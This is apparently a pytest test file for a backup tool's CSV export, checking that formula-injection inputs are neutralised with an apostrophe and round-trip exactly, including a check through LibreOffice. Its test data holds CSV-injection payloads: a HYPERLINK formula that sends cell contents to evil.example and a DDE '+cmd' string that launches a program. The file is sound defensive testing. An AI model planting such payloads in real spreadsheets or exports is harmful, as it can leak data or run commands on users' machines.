"""A CSV export is safe to open in a spreadsheet: a text starting with = + - @ (or a tab or a
carriage return) is written behind an apostrophe so that Excel or LibreOffice never run it
as a formula (``=HYPERLINK(…)``, ``+cmd|' /C calc'!A0``); the import takes exactly one
apostrophe off again, so the round trip is exact; ``--raw-csv`` writes texts as they are."""

from __future__ import annotations

import csv
import io
import os
import shutil
import sqlite3
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from kasirbackup.core.exports.csv import GUARDED_FIRST

HOSTILE = ["=1+2", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1", "'=1+2", "''", "'", "normal text", "0812345678", "-", "=a\x00b", None]
TRIGGERS = tuple(c for c in GUARDED_FIRST if c != "'")


def make_db(path: Path) -> Path:
    conn = sqlite3.connect(path)
    conn.execute('CREATE TABLE barang (id INTEGER PRIMARY KEY, "=nama" TEXT, catatan, stok INTEGER, harga REAL)')
    conn.executemany("INSERT INTO barang VALUES (?, ?, ?, ?, ?)",
                     [(i + 1, v, v, -i, -1.5 * i) for i, v in enumerate(HOSTILE)])
    conn.commit()
    conn.close()
    return path


def rows_of(zip_path: Path) -> list[list[str]]:
    with zipfile.ZipFile(zip_path) as zf:
        name = next(n for n in zf.namelist() if n.endswith(".csv"))
        text = zf.read(name).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def is_number(field: str) -> bool:
    try:
        float(field)
        return True
    except ValueError:
        return False


def test_no_field_a_spreadsheet_would_run_and_an_exact_round_trip(kb, tmp_path):
    db = make_db(tmp_path / "kasir.db")
    out = tmp_path / "kasir.zip"
    kb.run("export", "--db", db, "--format", "csv", "--out", out, check=True)
    rows = rows_of(out)
    assert rows[0][1] == "'=nama"                      # column names too
    for row in rows:
        for field in row:
            assert not field.startswith(TRIGGERS) or is_number(field), (field, row)
    texts = [r[2] for r in rows[1:]]
    assert texts[0] == "'=1+2" and texts[7] == "''=1+2" and texts[10] == "normal text"

    # the import gives every value back exactly: a replace changes nothing
    r = kb.run("import", "--db", db, "--from", out, "--mode", "replace", "--dry-run", "--json", check=True)
    assert '"updated": 0' in r.stdout and '"inserted": 0' in r.stdout and '"removed": 0' in r.stdout, r.stdout


def test_raw_csv_writes_texts_as_they_are(kb, tmp_path):
    db = make_db(tmp_path / "kasir.db")
    out = tmp_path / "raw.zip"
    kb.run("export", "--db", db, "--format", "csv", "--out", out, "--raw-csv", check=True)
    rows = rows_of(out)
    assert rows[0][1] == "=nama" and rows[1][2] == "=1+2" and rows[8][2] == "'=1+2"
    r = kb.run("import", "--db", db, "--from", out, "--mode", "replace", "--dry-run", "--json", check=True)
    assert '"updated": 0' in r.stdout, r.stdout


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
# comma, double quote, UTF-8, from line 1, …, token 13: evaluate formulas (what a user's Excel does)
INFILTER = "CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"


def open_in_libreoffice(csv_file: Path, tmp_path: Path) -> openpyxl.Workbook:
    profile = tmp_path / f"profile-{csv_file.stem}"
    outdir = tmp_path / f"lo-{csv_file.stem}"
    env = dict(os.environ, HOME=str(profile))
    proc = subprocess.run([SOFFICE, "--headless", "--norestore", f"-env:UserInstallation={profile.as_uri()}",
                           f"--infilter={INFILTER}", "--convert-to", "xlsx", "--outdir", str(outdir), str(csv_file)],
                          capture_output=True, text=True, timeout=240, env=env)
    assert proc.returncode == 0, proc.stderr
    return openpyxl.load_workbook(outdir / (csv_file.stem + ".xlsx"))


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_runs_no_formula_from_our_csv_but_would_from_a_raw_one(kb, tmp_path):
    db = make_db(tmp_path / "kasir.db")
    formulas = {}
    for name, extra in (("guarded", ()), ("raw", ("--raw-csv",))):
        folder = tmp_path / name
        kb.run("export", "--db", db, "--format", "csv", "--out", folder, *extra, check=True)
        sheet = open_in_libreoffice(folder / "barang.csv", tmp_path).active
        formulas[name] = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas["raw"], "LibreOffice evaluated no formula even from the raw CSV: the check sees nothing"
    assert formulas["guarded"] == [], formulas["guarded"]
